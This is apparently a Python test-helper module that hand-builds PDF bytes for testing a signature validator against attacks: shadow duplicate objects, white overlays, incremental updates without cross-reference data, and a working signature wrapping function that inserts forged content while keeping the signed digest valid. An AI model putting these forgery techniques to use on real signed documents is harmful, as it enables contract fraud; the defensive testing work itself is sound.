"""Hand-made PDF bytes for attack tests: a small contract with known object numbers, and
incremental updates written byte by byte, so a test controls exactly what an attacker appends
(well-formed updates, updates without cross-reference data, cross-reference sections that only
re-point objects)."""

from __future__ import annotations

import io
import re
import zlib

from pyhanko.pdf_utils.generic import Reference
from pyhanko.pdf_utils.reader import PdfFileReader

# Object numbers of the contract made by contract_pdf().
CATALOG, PAGES, FONT, PAGE, CONTENT, SPARE_CONTENT, FIELD, FIELD_AP, OVERLAY = 1, 2, 3, 4, 5, 6, 7, 8, 9
CONTENT_TEXT = b"BT /F1 18 Tf 72 720 Td (Pay 100 EUR to ACME) Tj ET"
FORGED_TEXT = b"BT /F1 18 Tf 72 720 Td (PAY 1000000 EUR to EVIL) Tj ET"


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def field_appearance(value: bytes) -> bytes:
    return _stream(b"/Tx BMC BT /F1 12 Tf 2 6 Td (" + value + b") Tj ET EMC",
                   b"/Type /XObject /Subtype /Form /BBox [0 0 150 22] /Resources << /Font << /F1 3 0 R >> >> ")


DANGLING = 40


def contract_pdf(*, with_field: bool = True, shadow_duplicate: bool = False, overlay: bool = False,
                 dangling: bool = False) -> bytes:
    """A one-page contract: text "Pay 100 EUR to ACME", an unused spare content stream with the
    forged text (what a shadow attack hides in the signed file), optionally a text field
    'amount' (value 100), an opaque white box drawn over the amount (``overlay``), and a second,
    unlisted definition of the content object carrying the forged text (``shadow_duplicate``), or
    a page content array that also names object 40, which does not exist (``dangling``)."""
    objects: dict[int, bytes] = {
        CATALOG: b"<< /Type /Catalog /Pages 2 0 R" + (b" /AcroForm << /Fields [7 0 R] /DA (/F1 12 Tf 0 g) "
                                                      b"/DR << /Font << /F1 3 0 R >> >> >>" if with_field else b"")
                 + b" >>",
        PAGES: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >>"
              + (b" /Contents [5 0 R 9 0 R]" if overlay else b" /Contents [5 0 R 40 0 R]" if dangling
                 else b" /Contents 5 0 R")
              + (b" /Annots [7 0 R]" if with_field else b"") + b" >>",
        CONTENT: _stream(CONTENT_TEXT),
        SPARE_CONTENT: _stream(FORGED_TEXT),
    }
    if with_field:
        objects[FIELD] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /F 4 /P 4 0 R "
                          b"/Rect [72 600 222 622] /DA (/F1 12 Tf 0 g) /AP << /N 8 0 R >> >>")
        objects[FIELD_AP] = field_appearance(b"100")
    if overlay:
        objects[OVERLAY] = _stream(b"q 1 g 60 700 300 40 re f Q")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    if shadow_duplicate:
        out += b"%d 0 obj\n" % CONTENT + _stream(FORGED_TEXT) + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def shadow_offset(data: bytes) -> int:
    """Byte offset of the unlisted second definition of the content object (``shadow_duplicate``)."""
    return data.rindex(b"\n%d 0 obj\n" % CONTENT) + 1


def _last_xref(data: bytes) -> tuple[int, int, int]:
    """(startxref, /Size, root object number) of the newest revision."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return startxref, int(reader.trailer["/Size"]), reader.trailer.raw_get("/Root").reference.idnum


def next_object_number(data: bytes) -> int:
    return _last_xref(data)[1]


def incremental_update(data: bytes, objects: dict[int, bytes], *, xref: bool = True, prev: bool = True,
                       pointers: dict[int, int] | None = None, trailer_extra: bytes = b"") -> bytes:
    """Append an incremental update defining ``objects`` (number -> body) with a classic xref
    section, /Prev and a trailer; ``pointers`` re-point object numbers at existing offsets
    (no new bytes for them). ``xref=False`` appends the bodies only (an update no
    cross-reference section accounts for); ``prev=False`` drops /Prev."""
    startxref, size, root = _last_xref(data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    entries: dict[int, int] = dict(pointers or {})
    for number in sorted(objects):
        entries[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    if not xref:
        return bytes(out)
    size = max(size, max(entries, default=0) + 1)
    position = len(out)
    out += b"xref\n"
    for number in sorted(entries):
        out += b"%d 1\n%010d 00000 n \n" % (number, entries[number])
    out += b"trailer\n<< /Size %d /Root %d 0 R" % (size, root)
    out += (b" /Prev %d" % startxref if prev else b"") + trailer_extra + b" >>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % position
    return bytes(out)


def stream(body: bytes, extra: bytes = b"") -> bytes:
    """A stream object body (dictionary + data)."""
    return _stream(body, extra)


def deflated(body: bytes) -> bytes:
    return _stream(zlib.compress(body), b"/Filter /FlateDecode ")


def object_body(data: bytes, number: int) -> bytes:
    """The body of the newest definition of object ``number`` as written (for edits)."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    offset = reader.xrefs.get_historical_ref(Reference(number, 0), reader.xrefs.total_revisions - 1)
    assert isinstance(offset, int), f"object {number} is not a plain object of the file"
    start = data.index(b"obj", offset) + 3
    return data[start:data.index(b"endobj", start)].strip()


def signature_wrapping(data: bytes, forged: dict[int, bytes]) -> bytes:
    """The signature wrapping attack on a file whose /ByteRange follows /Contents (pyHanko's
    layout): the signature dictionary is closed early with a new /ByteRange that points at the
    original second signed part, moved to after ``forged`` objects inserted in the gap; one new
    cross-reference table lists the objects at their new places. The signed bytes are unchanged,
    so the digest still matches."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    _, len1, start2, len2 = reader.embedded_signatures[0].byte_range
    part1, contents, part2 = data[:len1], data[len1:start2], data[start2:start2 + len2]
    rest = data[start2 + len2:]
    last = reader.xrefs.total_revisions - 1
    size = int(reader.trailer["/Size"])
    root = reader.trailer.raw_get("/Root").reference.idnum
    tail_template = (b"\n/ByteRange [0 %d %010d %d] /Type /Sig /Filter /Adobe.PPKLite "
                     b"/SubFilter /ETSI.CAdES.detached >>\nendobj\n")
    tail_length = len(tail_template % (len1, 0, len2))
    forged_blob = bytearray()
    forged_offsets: dict[int, int] = {}
    base = len1 + len(contents) + tail_length
    for number in sorted(forged):
        forged_offsets[number] = base + len(forged_blob)
        forged_blob += b"%d 0 obj\n" % number + forged[number] + b"\nendobj\n"
    moved_to = base + len(forged_blob)
    out = bytearray(part1 + contents + tail_template % (len1, moved_to, len2) + forged_blob + part2 + rest)
    offsets: dict[int, int] = {}
    for number in range(1, size):
        where = reader.xrefs.get_historical_ref(Reference(number, 0), last)
        if isinstance(where, int):
            offsets[number] = where if where < len1 else where + (moved_to - start2)
    offsets.update(forged_offsets)
    xref = len(out)
    out += b"\nxref\n0 %d\n0000000000 65535 f \n" % size
    xref += 1
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def signature_object_number(data: bytes) -> int:
    """Object number of the first signature dictionary."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    return reader.embedded_signatures[0].sig_object.container_ref.idnum


def signature_field_number(data: bytes) -> int:
    """Object number of the first signature field."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    return reader.embedded_signatures[0].sig_field.container_ref.idnum
